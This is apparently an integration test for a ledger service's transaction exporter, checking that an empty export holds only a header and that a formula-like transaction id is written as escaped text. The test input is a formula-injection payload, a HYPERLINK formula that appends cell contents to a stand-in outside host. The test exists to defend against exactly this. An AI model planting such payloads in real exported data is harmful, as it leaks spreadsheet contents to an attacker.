import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import exceljs from 'exceljs'
import { expect, signUp, test, waitFor } from './api.ts'
import { spawnApis } from './api-processes.ts'
import type { Client } from './client.ts'

const EXPORTER = 'services/exporter/src/main.ts'
const EXPORT_MAX_MS = 30_000

/** Orders an export over HTTP, waits for its file, and reads the sheet of transactions in it. */
async function readExport(url: string, client: Client): Promise<exceljs.Worksheet> {
  const { json } = await client.call('POST', '/transactions/export')
  const path = `/transactions/exports/${json.export_id}`
  await waitFor(async () => (await client.get(path)).json.status === 'succeeded', { timeoutMs: EXPORT_MAX_MS })
  const { token } = client.account.access_token
  const file = await fetch(`${url}/api/v1${path}/file`, { headers: { authorization: `Bearer ${token}` } })
  expect(file.status).toBe(200)
  const workbook = new exceljs.Workbook()
  await workbook.xlsx.load((await file.arrayBuffer()) as exceljs.Buffer)
  return workbook.getWorksheet('Transactions') as exceljs.Worksheet
}

test('an export of nothing is a header, and a trans_id that is a formula is text in it', async ({
  createDatabase,
  spawnService,
}) => {
  const { url } = await createDatabase()
  const folder = await mkdtemp(join(tmpdir(), 'streamledger-exports-'))
  try {
    const [api] = await spawnApis(spawnService, url, { env: { EXPORT_DIR: folder } })
    if (!api) throw new Error('there is no API')
    const exporter = await spawnService(EXPORTER, { DATABASE_URL: url, EXPORT_DIR: folder, LOG_LEVEL: 'warn' })
    await exporter.ready()
    const client = await signUp(api.url)

    const empty = await readExport(api.url, client)
    expect(empty.actualRowCount).toBe(1)
    const trans_id = '=HYPERLINK("https://elsewhere.example/?"&A1,"click")'
    expect((await client.post('credit', 1, trans_id)).status).toBe(201)
    const one = await readExport(api.url, client)
    expect(one.actualRowCount).toBe(2)
    const cells: exceljs.Cell[] = []
    one.getRow(2).eachCell((cell) => cells.push(cell))
    expect(cells.map(({ value }) => value)).toContain(`'${trans_id}`)
    expect(cells.map(({ type }) => type)).not.toContain(exceljs.ValueType.Formula)
  } finally {
    await rm(folder, { recursive: true })
  }
})
